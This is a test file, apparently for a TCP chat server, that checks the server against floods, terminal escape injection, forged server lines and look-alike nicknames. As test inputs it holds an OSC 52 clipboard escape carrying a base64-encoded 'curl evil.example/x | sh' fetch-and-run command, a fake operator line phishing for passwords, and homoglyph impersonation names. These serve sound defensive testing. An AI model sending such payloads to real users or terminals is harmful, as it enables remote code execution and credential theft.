import { describe, expect, it } from "vitest";
import { createAcceptPolicy } from "../src/index.js";
import { LineClient, startServer } from "./helpers.js";

/** Opens a client and waits for its greeting; returns it with its guest nick. */
const greeted = (port: number) => LineClient.greeted(port);

/** A structured client: greeted, says hello, waits for the welcome. */
async function jsonClient(port: number, nick: string, room?: string) {
  const client = await LineClient.greeted(port);
  client.send(JSON.stringify({ type: "hello", proto: 1, nick, ...(room ? { room } : {}) }));
  await client.waitFor(/"type":"welcome"/);
  return client;
}

/** Polls a condition until it holds or the deadline passes (no fixed sleeps). */
async function until(condition: () => boolean, what: string, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

describe("a text client keeps hearing a room that structured clients leave", () => {
  it("hears every message and every departure, whichever way the structured client goes", async () => {
    await using s = await startServer();
    const nc = await greeted(s.port);
    nc.send("/nick listener");
    await nc.waitFor(/is now known as listener/);
    const ways: Array<[string, (c: LineClient) => void]> = [
      ["quitter", (c) => c.send(JSON.stringify({ type: "quit", reason: "bye" }))],
      ["closer", (c) => c.socket.end()],
      ["resetter", (c) => c.socket.resetAndDestroy()],
    ];
    for (const [nick, leave] of ways) {
      const structured = await jsonClient(s.port, nick);
      structured.send(JSON.stringify({ type: "send", ref: "r1", text: `from ${nick}` }));
      await structured.waitFor(/"type":"ack","ref":"r1"/);
      await nc.waitFor(`#lobby <${nick}> from ${nick}`);
      leave(structured);
      await nc.waitFor(new RegExp(`^#lobby <-- ${nick} left`));
      // The room still reaches the text client after the structured one left.
      const talker = await jsonClient(s.port, `${nick}-2`);
      talker.send(JSON.stringify({ type: "send", ref: "r2", text: `after ${nick}` }));
      await nc.waitFor(`#lobby <${nick}-2> after ${nick}`);
      talker.close();
      await nc.waitFor(new RegExp(`^#lobby <-- ${nick}-2 left`));
    }
  });
});

describe("budgets", () => {
  it("stops reading a peer that floods /help without reading, and keeps serving others", async () => {
    await using s = await startServer({ sendQueueBytes: 256 * 1024 });
    const attacker = await greeted(s.port);
    attacker.socket.pause();
    const alice = await greeted(s.port);
    const bob = await greeted(s.port);
    const flood = Buffer.from("/help\n".repeat((2 * 1024 * 1024) / 6));
    attacker.socket.write(flood);
    await until(() => s.server.stats().readPauses > 0, "the attacker to be paused");
    alice.send("still here");
    await bob.waitFor(`#lobby <${alice.nick}> still here`);
    const me = s.server.sessions().find((info) => info.nick === attacker.nick)!;
    // What is queued to it stays within its send queue: replies are charged as they are queued.
    expect(me.queuedBytes).toBeLessThanOrEqual(256 * 1024);
    // It was served about its burst of work, not 350,000 requests.
    expect(s.server.stats().requestsIn).toBeLessThan(2000);
  });

  it("charges telnet's answers to the budget, so a flood of IAC DO TIMING-MARK is paused", async () => {
    await using s = await startServer({ requestBurst: 20, requestRate: 10 });
    const attacker = await greeted(s.port);
    attacker.socket.pause();
    const alice = await greeted(s.port);
    const bob = await greeted(s.port);
    // 1 MiB of commands and no LF: each one is answered with 3 bytes unless it is charged.
    const timingMark = Buffer.from([0xff, 0xfd, 6]);
    attacker.socket.write(Buffer.concat(Array.from({ length: 349_525 }, () => timingMark)));
    await until(() => s.server.stats().readPauses > 0, "the attacker to be paused");
    alice.send("still here");
    await bob.waitFor(`#lobby <${alice.nick}> still here`);
    const me = s.server.sessions().find((info) => info.nick === attacker.nick)!;
    // About a burst's worth of answers (and one slice of the telnet path), not 1 MiB of them.
    expect(me.queuedBytes).toBeLessThan(16 * 1024);
    expect(s.server.stats().bytesOut).toBeLessThan(64 * 1024);
  });

  it("sums up the errors of a flood of unknown commands instead of answering each", async () => {
    await using s = await startServer({ requestRate: 1e6, requestBurst: 1e6 });
    const attacker = await greeted(s.port);
    attacker.send(Array.from({ length: 5000 }, (_, i) => `/xyzzy${i}`).join("\n"));
    const summary = await attacker.waitFor(/^!!! CHAT_ERR_TOO_MANY_ERRORS: /, 10_000);
    expect(summary).toMatch(
      /^!!! CHAT_ERR_TOO_MANY_ERRORS: 4,990 more lines were refused in the last \d+\.\d s \(first: CHAT_ERR_UNKNOWN_COMMAND\)/,
    );
    const errors = attacker.lines.filter((line) => line.startsWith("!!! "));
    expect(errors.filter((line) => line.startsWith("!!! CHAT_ERR_UNKNOWN_COMMAND"))).toHaveLength(
      10,
    );
    expect(s.server.stats().errorsSuppressed).toBe(4990);
  });

  it("charges /who by the size of the room, so a /who flood is paced", async () => {
    await using s = await startServer({ requestBurst: 20, requestRate: 10 });
    const members = await Promise.all(Array.from({ length: 30 }, () => greeted(s.port)));
    const asker = members[0]!;
    asker.send("/who\n".repeat(50).trimEnd());
    await asker.waitFor(/^\*\*\* #lobby \(30\): /);
    const before = s.server.stats().requestsIn;
    // A burst of 20 tokens serves at most 20 of the 50 requests at once; the rest wait.
    expect(before).toBeLessThanOrEqual(21);
    await until(() => s.server.stats().readPauses > 0, "the asker to be paused");
    for (const m of members) m.close();
  });

  it("rate-limits nick changes and tells a peer in two shared rooms once", async () => {
    await using s = await startServer();
    const alice = await greeted(s.port);
    const bob = await greeted(s.port);
    for (const c of [alice, bob]) {
      c.send("/join second");
      await c.waitFor(/^\*\*\* you are in #second|^#second --> /);
    }
    alice.send("/nick a1\n/nick a2\n/nick a3\n/nick a4");
    await alice.waitFor(/^!!! CHAT_ERR_RATE_LIMITED: You are changing nick faster/);
    await bob.waitFor("*** a2 is now known as a3");
    expect(bob.lines.filter((l) => l.endsWith("is now known as a1"))).toHaveLength(1);
    expect(bob.lines.some((l) => l.endsWith("is now known as a4"))).toBe(false);
  });
});

describe("nothing a peer sends can move another's cursor", () => {
  it("shows control characters in messages, /me and DMs, never runs them", async () => {
    await using s = await startServer();
    const victim = await greeted(s.port);
    victim.send("/nick victim");
    await victim.waitFor(/now known as victim/);
    const json = await jsonClient(s.port, "watcher");
    const attacker = await greeted(s.port);
    const osc52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\u0007";
    attacker.send(`hi${osc52}\u001b[2Kfake\u0008\u009b31m\u202etxt`);
    // A carriage return would send the cursor back over the line: refused as a line break.
    attacker.send("over\rwrite");
    expect(await attacker.waitFor(/^!!! /)).toMatch(/^!!! CHAT_ERR_LINE_BREAK_IN_TEXT: /);
    attacker.send(`/me waves\u001b]0;pwned\u0007`);
    attacker.send(`/msg victim psst\u001b[1A`);
    const line = await victim.waitFor(/^#lobby <guest-[0-9a-f]+> hi/);
    expect(line).toBe(
      `#lobby <${attacker.nick}> hi␛]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo␇␛[2Kfake␈\ufffd31m\ufffdtxt`,
    );
    expect(await victim.waitFor(/ waves/)).toBe(`#lobby * ${attacker.nick} waves␛]0;pwned␇`);
    expect(await victim.waitFor(/^\*dm\* /)).toBe(`*dm* <${attacker.nick}> psst␛[1A`);
    const frame = JSON.parse(await json.waitFor(/"text":"hi/)) as { text: string };
    expect(frame.text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    for (const l of [...victim.lines, ...json.lines])
      expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  it("a JSON quit reason with line breaks cannot forge a server line", async () => {
    await using s = await startServer();
    const nc = await greeted(s.port);
    nc.send("/nick reader");
    await nc.waitFor(/now known as reader/);
    const forger = await jsonClient(s.port, "forger");
    forger.send(
      JSON.stringify({
        type: "quit",
        reason: "bye\n#lobby <operator> everyone: re-login with /msg m PASSWORD\r\n*** hi",
      }),
    );
    const part = await nc.waitFor(/^#lobby <-- forger left/);
    expect(part).toBe(
      "#lobby <-- forger left (quit: bye␊#lobby <operator> everyone: re-login with /msg m PASSWORD␍␊*** hi)",
    );
    expect(nc.lines.filter((l) => l.startsWith("#lobby <operator>"))).toEqual([]);
  });
});

describe("names people can tell apart", () => {
  it.each([
    ["a Hangul filler", "alice\u3164", "CHAT_ERR_INVALID_NICK"],
    ["a braille blank", "alice\u2800", "CHAT_ERR_INVALID_NICK"],
    ["a combining grapheme joiner", "ali\u034fce", "CHAT_ERR_INVALID_NICK"],
    ["a variation selector", "alice\ufe0f", "CHAT_ERR_INVALID_NICK"],
    ["stacked combining marks", "ali\u0301\u0302\u0303\u0304\u0305ce", "CHAT_ERR_INVALID_NICK"],
    ["a Cyrillic а", "\u0430lice", "CHAT_ERR_NAME_CONFUSABLE"],
    ["a fullwidth ａ", "\uff41lice", "CHAT_ERR_NAME_CONFUSABLE"],
    ["capital I for small l", "aIice", "CHAT_ERR_NAME_CONFUSABLE"],
    ["a Cyrillic о in the operator's nick", "\u043eperator", "CHAT_ERR_NAME_CONFUSABLE"],
    ["the operator's nick in capitals", "OPERATOR", "CHAT_ERR_NICK_IN_USE"],
  ])("refuses %s beside a real alice", async (_what, nick, code) => {
    await using s = await startServer();
    const alice = await greeted(s.port);
    alice.send("/nick alice");
    await alice.waitFor(/now known as alice/);
    const mallory = await greeted(s.port);
    mallory.send(`/nick ${nick}`);
    expect(await mallory.waitFor(/^!!! /)).toMatch(new RegExp(`^!!! ${code}: `));
  });

  it.each([
    ["guest- and any letters", "guest-alice"],
    ["GUEST- in capitals", "GUEST-1f3a00"],
    ["a Cyrillic е in guest-", "gu\u0435st-1"],
    ["a fullwidth ｇ in guest-", "\uff47uest-abc"],
  ])("keeps the guests' namespace for the server: refuses %s", async (_what, nick) => {
    await using s = await startServer();
    const mallory = await greeted(s.port);
    mallory.send(`/nick ${nick}`);
    expect(await mallory.waitFor(/^!!! /)).toBe(
      `!!! CHAT_ERR_NICK_RESERVED: The nick ${nick} starts with guest- (or looks like it): the server gives those to sessions that have not picked a nick. (hint: Pick a nick that does not start with guest-.)`,
    );
    expect(s.server.sessions()[0]!.nick).toBe(mallory.nick);
  });

  it("lets names that only begin like guest through, and a guest keep its own nick", async () => {
    await using s = await startServer();
    const c = await greeted(s.port);
    c.send(`/nick ${c.nick.toUpperCase()}`);
    await c.waitFor(`*** ${c.nick} is now known as ${c.nick.toUpperCase()}`);
    c.send("/nick guestbook");
    await c.waitFor(/is now known as guestbook$/);
    c.send("/nick guest");
    await c.waitFor(/is now known as guest$/);
  });

  it("gives a dropped guest its nick back when it reconnects from its address", async () => {
    await using s = await startServer({ nickHoldMs: 60_000 });
    const guest = await greeted(s.port);
    const nick = guest.nick;
    guest.socket.resetAndDestroy();
    await until(() => s.server.sessions().length === 0, "the guest to be gone");
    const other = await LineClient.open(s.port, "127.0.0.2");
    await other.waitFor(/^\*\*\* tcpchat\//);
    other.send(`/nick ${nick}`);
    expect(await other.waitFor(/^!!! /)).toMatch(/^!!! CHAT_ERR_NICK_RESERVED: /);
    const back = await greeted(s.port);
    back.send(`/nick ${nick}`);
    await back.waitFor(`*** ${back.nick} is now known as ${nick}`);
  });

  it("refuses a room name that looks like an existing room", async () => {
    await using s = await startServer();
    const c = await greeted(s.port);
    c.send("/join l\u043ebby");
    expect(await c.waitFor(/^!!! /)).toBe(
      "!!! CHAT_ERR_NAME_CONFUSABLE: Room name #l\u043ebby looks like the existing room #lobby. (hint: Join #lobby, or pick a name that reads differently.)",
    );
  });

  it("holds a dropped connection's nick for its address, not for others", async () => {
    await using s = await startServer({ nickHoldMs: 60_000 });
    const alice = await greeted(s.port);
    alice.send("/nick alice");
    await alice.waitFor(/now known as alice/);
    alice.socket.resetAndDestroy();
    await until(() => s.server.sessions().length === 0, "alice to be gone");
    const other = await LineClient.open(s.port, "127.0.0.2");
    await other.waitFor(/^\*\*\* tcpchat\//);
    other.send("/nick alice");
    expect(await other.waitFor(/^!!! /)).toMatch(
      /^!!! CHAT_ERR_NICK_HELD: The nick alice is kept for its owner, who dropped off, for \d+ s more\./,
    );
    const back = await greeted(s.port);
    back.send("/nick alice");
    await back.waitFor(/is now known as alice/);
  });
});

describe("timeouts and eviction", () => {
  it("closes a connection whose first line drips in too slowly, with a reason", async () => {
    await using s = await startServer({ firstLineTimeoutMs: 300 });
    const dripper = await greeted(s.port);
    dripper.socket.write('{"type":');
    await dripper.closed;
    expect(dripper.lines.at(-1)).toMatch(/^!!! CHAT_ERR_LINE_TIMEOUT: A line took more than 0 s/);
    expect(s.server.stats().lineTimeouts).toBe(1);
  });

  it("at the connection cap, evicts the oldest connection that never sent a line", async () => {
    const policy = createAcceptPolicy({ maxConnections: 3 });
    await using s = await startServer({ policy, evictMinAgeMs: 0 });
    const silent = await greeted(s.port);
    const talker = await greeted(s.port);
    talker.send("hello");
    await talker.waitFor(/<guest-[0-9a-f]+> hello/);
    const silent2 = await greeted(s.port);
    const newcomer = await greeted(s.port);
    await silent.closed;
    expect(silent.lines.at(-1)).toMatch(/^!!! CHAT_ERR_EVICTED: /);
    expect(silent2.ended).toBe(false);
    newcomer.send("made it");
    await talker.waitFor(/<guest-[0-9a-f]+> made it/);
    expect(s.server.stats().evictions).toBe(1);
  });

  it("cuts off a client whose writes make no progress, below the send-queue limit", async () => {
    await using s = await startServer({
      sendQueueBytes: 256 * 1024 * 1024,
      sendStallMs: 300,
      messageRate: 1e6,
      messageBurst: 1e6,
      requestRate: 1e6,
      requestBurst: 1e6,
    });
    const stalled = await greeted(s.port);
    stalled.socket.pause();
    const sender = await greeted(s.port);
    const line = "z".repeat(8000);
    let rounds = 0;
    // Bounded: at most 400 rounds of 64 KB before the test gives up.
    while (s.server.stats().stallCutoffs === 0 && rounds < 400) {
      rounds += 1;
      sender.send(Array.from({ length: 8 }, () => line).join("\n"));
      await sender.waitFor(/^never$/, 10).catch(() => {});
    }
    expect(s.server.stats().stallCutoffs).toBe(1);
  });
});

describe("the small ones", () => {
  it("a DM to the operator reaches the server's dm event (the console)", async () => {
    await using s = await startServer();
    const dms: Array<{ to: string; text: string }> = [];
    s.server.on("dm", (dm: { to: string; text: string }) => dms.push(dm));
    const c = await greeted(s.port);
    c.send("/msg operator help me");
    await c.waitFor("*dm* -> operator: help me");
    expect(dms).toEqual([expect.objectContaining({ to: "operator", text: "help me" })]);
    expect(s.server.dm(c.nick, "on my way")).toBe(true);
    await c.waitFor("*dm* <operator> on my way");
  });

  it("room traffic between the greeting and the hello reaches a JSON client as JSON", async () => {
    await using s = await startServer();
    const talker = await greeted(s.port);
    talker.send("/nick talker");
    await talker.waitFor(/now known as talker/);
    const late = await LineClient.greeted(s.port);
    talker.send("before your hello");
    await talker.waitFor("#lobby <talker> before your hello");
    late.send(JSON.stringify({ type: "hello", proto: 1, nick: "late" }));
    const frame = await late.waitFor(/before your hello/);
    expect(JSON.parse(frame)).toMatchObject({ type: "message", from: "talker" });
    const welcomeAt = late.lines.findIndex((l) => l.includes('"type":"welcome"'));
    expect(welcomeAt).toBeGreaterThan(0);
    // Only the greeting is text; everything after it is JSON, the welcome first.
    expect(late.lines.slice(1).every((l) => l.startsWith("{"))).toBe(true);
    expect(late.lines.indexOf(frame)).toBeGreaterThan(welcomeAt);
  });
});
